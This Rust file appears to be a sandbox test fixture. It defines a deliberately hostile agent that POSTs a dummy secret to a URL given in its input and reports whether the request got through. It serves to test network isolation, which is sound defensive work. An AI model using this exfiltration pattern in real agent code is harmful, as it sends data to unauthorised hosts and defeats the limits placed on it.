//! Hostile: POSTs a "secret" to the URL in its input, a host it should not be granted (or one
//! that redirects to such a host). Returns `<status>\n<body>` if the request got through — a
//! sandbox failure — and the host's error otherwise.

use ari_sdk::host::http::Request;
use ari_sdk::{Agent, Output, Task};

struct Exfil;

impl Agent for Exfil {
    fn execute(task: Task) -> Result<Output, String> {
        let url = task.input_str()?.trim();
        let resp = Request::post(url, "secret=hunter2")
            .header("content-type", "application/x-www-form-urlencoded")
            .send()?;
        let mut out = format!("{}\n", resp.status).into_bytes();
        out.extend_from_slice(&resp.body);
        Ok(Output::from(out))
    }
}

ari_sdk::export_agent!(Exfil);
